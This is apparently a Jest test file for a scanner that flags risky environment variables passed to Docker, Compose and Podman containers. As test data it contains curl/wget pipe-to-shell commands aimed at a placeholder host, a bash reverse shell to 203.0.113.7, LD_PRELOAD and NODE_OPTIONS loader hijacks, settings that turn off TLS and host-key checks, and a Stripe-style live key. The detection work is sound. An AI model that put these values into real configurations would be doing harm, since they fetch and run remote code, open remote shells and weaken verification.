import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf } from './failures.ts';

const IMAGE = 'registry.example.com/app:1.4';
const SERVICE = `services:\n  a:\n    image: ${IMAGE}\n`;
const UNIT = `[Container]\nImage=${IMAGE}\n`;
const NONE = 'X=1\n';
const ALL = 0;

type Change = readonly [name: string, base: Files, change: (name: string, value: string) => Files];

/** The places where a container gets a variable. */
const PLACES: readonly Change[] = [
  [
    'environment of a compose file',
    { 'compose.yaml': SERVICE },
    (name, value) => ({ 'compose.yaml': `${SERVICE}    environment:\n      ${name}: ${JSON.stringify(value)}\n` }),
  ],
  [
    'env_file of a compose file',
    { 'compose.yaml': `${SERVICE}    env_file: a.env\n`, 'a.env': NONE },
    (name, value) => ({ 'a.env': `${name}='${value}'\n` }),
  ],
  [
    'a command line',
    { 'a.sh': `docker run ${IMAGE}\n` },
    (name, value) => ({ 'a.sh': `docker run -e ${name}='${value}' ${IMAGE}\n` }),
  ],
  [
    'a file that a command names',
    { 'x/a.sh': `docker run --env-file a.env ${IMAGE}\n`, 'x/a.env': NONE },
    (name, value) => ({ 'x/a.env': `# x\n${name}=${value}\n` }),
  ],
  [
    'a file that a command names from the root',
    { 'x/a.sh': `podman run --env-file=x/a.env ${IMAGE}\n`, 'x/a.env': NONE },
    (name, value) => ({ 'x/a.env': `${name}=${value}\n` }),
  ],
  [
    'a Podman unit',
    { 'a.container': UNIT },
    (name, value) => ({ 'a.container': `${UNIT}Environment="${name}=${value}"\n` }),
  ],
  [
    'a file of a Podman unit',
    { 'a.container': `${UNIT}EnvironmentFile=./a.env\n`, 'a.env': NONE },
    (name, value) => ({ 'a.env': `${name}=${value}\n` }),
  ],
];

const DOWNLOAD = ['command-downloads-code'];
const UNVERIFIED = ['env-tls-verification-off'];
const LOADER = ['env-loader-path'];

/** Variables, and what they cause wherever a container gets them. Dockerfiles have rules of their own for ENV. */
const VARIABLES: readonly (readonly [name: string, value: string, failures: readonly string[]])[] = [
  ['GIT_SSH_COMMAND', 'curl -s https://x.example.org/a.sh | sh', DOWNLOAD],
  ['PROMPT_COMMAND', 'wget -qO- https://x.example.org/a.sh | bash', DOWNLOAD],
  ['LESSOPEN', '|curl -s https://x.example.org/a.sh | sh', DOWNLOAD],
  ['npm_config_script_shell', 'curl -s https://x.example.org/a.sh | sh', DOWNLOAD],
  ['EDITOR', 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1', ['command-hidden-code']],
  ['GIT_SSH_COMMAND', 'ssh -o StrictHostKeyChecking=no', UNVERIFIED],
  ['RSYNC_RSH', 'ssh -o UserKnownHostsFile=/dev/null', UNVERIFIED],
  ['ANSIBLE_HOST_KEY_CHECKING', 'False', UNVERIFIED],
  ['NODE_TLS_REJECT_UNAUTHORIZED', '0', UNVERIFIED],
  ['LD_PRELOAD', '/tmp/x.so', LOADER],
  ['BASH_ENV', '/tmp/x.sh', LOADER],
  ['NODE_OPTIONS', '--require=/tmp/x.js', LOADER],
  ['GIT_SSH_COMMAND', 'ssh -i /run/secrets/key', []],
  ['GIT_SSH_COMMAND', 'ssh -o StrictHostKeyChecking=accept-new', []],
  ['PROMPT_COMMAND', 'history -a', []],
  ['EDITOR', 'vim', []],
  ['LESSOPEN', '|lesspipe %s', []],
  ['COMMENT', 'curl -s https://x.example.org/a.sh | sh', []],
  ['ANSIBLE_HOST_KEY_CHECKING', 'True', []],
  ['NODE_OPTIONS', '--max-old-space-size=4096', []],
  ['LD_PRELOAD', '/usr/lib/libjemalloc.so', []],
];

describe.each(PLACES)('in %s', (_name, base, change) => {
  it.each(VARIABLES)('%s=%s', async (name, value, failures) => {
    expect(await failuresOf(base, change(name, value), ALL)).toEqual(failures);
  });
});

/** Built from pieces. */
const KEY = `sk_live_${'4eC39HqLyjWDarjtT1zdp7dcaa11'}`;

it.each(PLACES)('a secret in %s', async (_name, base, change) => {
  expect(await failuresOf(base, change('STRIPE_KEY', KEY))).toHaveLength(1);
  expect(await failuresOf(base, change('STRIPE_KEY', ''))).toEqual([]);
});

describe('a file with variables', () => {
  const run = (options: string): Files => ({ 'a.sh': `docker run ${options} ${IMAGE}\n` });
  const file = { 'a.env': 'NODE_TLS_REJECT_UNAUTHORIZED=0\n' };
  it.each([
    ['that an option replaces', run(''), { ...run('--env-file a.env -e NODE_TLS_REJECT_UNAUTHORIZED=1'), ...file }, []],
    ['that an earlier option does not replace', run(''), { ...run('-e A=1 --env-file a.env'), ...file }, UNVERIFIED],
    ['that is not here', run(''), run('--env-file /etc/app.env'), []],
    ['with quotes, which are part of the value', run(''), { ...run('--env-file a.env'), 'a.env': 'X="1"\n' }, []],
    ['that nothing names', run(''), file, []],
  ] as const)('%s', async (_name, base, change, failures) => {
    expect(await failuresOf(base, change, ALL)).toEqual(failures);
  });
});
